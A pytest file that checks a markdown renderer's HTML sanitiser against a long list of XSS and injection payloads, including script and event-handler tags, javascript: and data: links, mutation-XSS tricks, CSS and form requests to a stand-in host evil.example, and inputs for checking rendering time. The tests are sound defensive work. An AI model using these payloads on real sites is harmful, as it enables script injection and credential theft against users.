import time
from html.parser import HTMLParser

import pytest

from playground.markdown import ATTRIBUTES, CLASSES, MOST_CHARACTERS, TAGS, render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    '<img srcset="https://evil.example/a 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="https://evil.example/s.svg#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<style>body{background:url(https://evil.example/)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/)">x</p>',
    '<div style="position:fixed;inset:0">cover</div>',
    '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<video poster="https://evil.example/p.png"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://ok.example" onclick=alert(1)>x</a>',
    '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://ok.example/1)",
    "[x](//evil.example/path)",
    "[x](/w/default/keys/)",
    "[x](?delete=1)",
    "[x](#top)",
    "[x](https://ok.example 'title\" onmouseover=alert(1) \"')",
    '[x](https://ok.example "t" onclick=alert(1))',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: https://ok.example "\\" onclick=alert(1)"\n\n[x]',
    "<javascript:alert(1)>",
    "<https://ok.example/\"onmouseover=alert(1)>",
    "![x](https://evil.example/p.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![" onerror="alert(1)](https://evil.example/p.png)',
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```x onmouseover=alert(1)\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "| a |\n|:-:|\n| b |",
    "* <iframe src=//evil.example>\n  1. <object data=x>",
    "> <style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>",
    "\0<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
    "**<b onclick=alert(1)>x</b>**",
    "a\u2028<img src=x onerror=alert(1)>",
    "<a\x0chref=javascript:alert(1)>x",
    "1337. <li onclick=alert(1)>",
    "~~<s onmouseover=alert(1)>~~",
    "\\<script>alert(1)\\</script>",
    "[x](https://user:pass@evil.example@ok.example/)",
    "[x](http://[::1)",
    "[x](mailto:a@b.example?body=<script>alert(1)</script>)",
]  # fmt: skip
LONG = "x" * MOST_CHARACTERS


class Elements(HTMLParser):
    """Every element and attribute as a browser would see them."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.found.append(("comment", {}))

    def handle_decl(self, decl):
        self.found.append(("declaration", {}))

    def handle_pi(self, data):
        self.found.append(("instruction", {}))


def assert_harmless(html):
    for tag, attributes in Elements(html).found:
        assert tag in TAGS, f"<{tag}> in {html}"
        for name, value in attributes.items():
            if name == "class":
                assert set(value.split()) <= CLASSES[tag]
            elif (tag, name) == ("a", "rel"):
                assert value == "noopener noreferrer nofollow"
            else:
                assert name in ATTRIBUTES.get(tag, ()), f"{name} on <{tag}> in {html}"
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:"))
                assert "rel" in attributes


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives(payload):
    assert_harmless(render(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives_inside_other_text(payload):
    assert_harmless(render(f"Some *words*\n\n- a list\n- {payload}\n\n{payload} and `code`"))


def test_all_payloads_at_once_and_a_long_text_are_harmless():
    assert_harmless(render("\n\n".join(PAYLOADS)))
    assert_harmless(render(LONG + "".join(PAYLOADS)))


def test_html_is_shown_as_it_was_written():
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render("<script>alert(1)</script>")


def test_a_picture_becomes_its_words_and_its_address():
    html = render("![A cat](https://evil.example/p.png)")
    assert "<img" not in html
    assert "A cat" in html
    assert "https://evil.example/p.png" in html


def test_a_link_says_where_it_leads():
    html = render("[your bank](https://evil.example/login)")
    assert '<a href="https://evil.example/login" target="_blank" rel="noopener noreferrer nofollow">' in html
    assert "(evil.example)" in html


def test_a_link_whose_words_name_its_host_says_it_once():
    assert render("<https://ok.example/a>").count("ok.example") == 2
    assert "(" not in Elements(render("[ok.example](https://ok.example/)")).text


def test_what_a_link_hides_in_its_address_is_seen_through():
    html = render("[x](https://bank.example@evil.example/)")
    assert "(evil.example)" in html


def test_a_link_without_an_allowed_scheme_leads_nowhere():
    for target in ("/w/default/keys/", "//evil.example", "ftp://evil.example"):
        assert "href" not in render(f"[x]({target})")


def test_headings_do_not_disturb_those_of_the_page():
    html = render("# Plan\n\ntext")
    assert "<h1" not in html
    assert "<strong>Plan</strong>" in html


def test_lists_tables_and_code_are_rendered():
    html = render("3. three\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nx = '<b>'\n```\n\n~~gone~~")
    assert '<ol start="3">' in html
    assert '<td class="number">2</td>' in html
    assert '<pre tabindex="0"><code>x = ' in html
    assert "&lt;b&gt;" in html
    assert "<s>gone</s>" in html


@pytest.mark.parametrize("piece", ["[", "*a ", "![", "[a](b", "a**b", "|a", "> ", "`", "<", "_a_ ", "- ", "[a]: b\n"])
def test_no_text_keeps_the_page_waiting(piece):
    text = (piece * MOST_CHARACTERS)[:MOST_CHARACTERS]
    began = time.process_time()
    render.__wrapped__(text)
    assert time.process_time() - began < 5


def test_a_text_too_long_to_render_is_shown_as_it_is():
    assert render("*" + LONG) == f'<div class="prose__plain">*{LONG}</div>'
